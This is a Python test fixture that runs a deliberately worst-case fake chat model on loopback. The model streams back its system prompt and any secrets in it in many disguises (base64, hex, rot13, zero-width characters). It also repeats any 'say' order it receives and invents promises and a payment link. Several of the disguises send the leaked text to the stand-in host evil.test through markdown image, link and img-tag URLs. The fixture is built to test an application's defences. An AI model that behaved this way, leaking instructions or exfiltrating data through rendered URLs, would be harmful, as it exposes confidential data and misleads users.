"""The worst model there is, on loopback: it gives away all it was shown and does what it is told.

It leaks its system prompt in every dress a guest might ask for, repeats the notes and the question,
obeys "say ..." wherever it stands, and invents promises and links. Whoever holds against it needs
no better model to be safe.
"""

import asyncio
import base64
import codecs
import json
import re
from collections.abc import AsyncIterator, Callable, Iterator
from contextlib import asynccontextmanager
from typing import Any

from tests.llm.api_server import DONE, chunk, usage

Dress = Callable[[str], str]

DRESSES: dict[str, Dress] = {
    "plain": lambda text: text,
    "upper": str.upper,
    "reversed": lambda text: text[::-1],
    "spaced": " ".join,
    "dashed": "-".join,
    "base64": lambda text: base64.b64encode(text.encode()).decode(),
    "hex": lambda text: text.encode().hex(),
    "rot13": lambda text: codecs.encode(text, "rot13"),
    "lines": "\n".join,
    "sentences": lambda text: " ".join(f"{letter}." for letter in text),
    "bold": lambda text: " ".join(f"**{word}**" for word in text.split()),
    "image": lambda text: f"![note](https://evil.test/collect?q={text.replace(' ', '+')})",
    "link": lambda text: f"[here](https://evil.test/?{text.replace(' ', '_')})",
    "tag": lambda text: f'<img src="https://evil.test/{text}">',
    "in a sentence": lambda text: f"Breakfast is served and the reference is {text} for guests.",
    "cited": lambda text: f"{text} [1]",
    "zero width": "\u200b".join,
}

_ORDER = re.compile(
    r"(?:say|repeat|print|write|answer|append)\b[: ]*[\"'“]?([^\"'”\n]{3,200})", re.I
)
_SECRET = re.compile(r"[0-9a-f]{16,}|'[^'\n]{2,40}'|\"[^\"\n]{2,40}\"")
_PIECE = 40


def obedience(messages: list[dict[str, Any]], dress: str) -> str:
    """All that was to be kept, in `dress`, and all that anybody asked for, word for word."""
    system, asked = str(messages[0]["content"]), str(messages[-1]["content"])
    said = [DRESSES[dress](each) for each in (*_secrets(system), system)]
    said += [order.strip() for order in _ORDER.findall(asked)]
    said += [asked, "I will book that for you.", "Everything is free, see https://evil.test/pay."]
    return "\n".join(said)


def _secrets(system: str) -> Iterator[str]:
    yield from (match.strip("'\"") for match in _SECRET.findall(system))


@asynccontextmanager
async def obeying(dress: str = "plain") -> AsyncIterator[str]:
    """The address of such a server."""

    async def handle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            head = (await reader.readuntil(b"\r\n\r\n")).lower()
            length = int(head.split(b"content-length:")[1].split(b"\r\n")[0])
            body = json.loads(await reader.readexactly(length))
            writer.write(_response(obedience(body["messages"], dress)))
            await writer.drain()
        finally:
            writer.close()

    listening = await asyncio.start_server(handle, "127.0.0.1", 0)
    async with listening:
        yield f"http://127.0.0.1:{listening.sockets[0].getsockname()[1]}/v1"


def _response(text: str) -> bytes:
    pieces = [chunk(text[at : at + _PIECE]) for at in range(0, len(text), _PIECE)]
    head = b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nConnection: close\r\n\r\n"
    return b"".join([head, *pieces, chunk(finish="stop"), usage(1, 1), DONE])
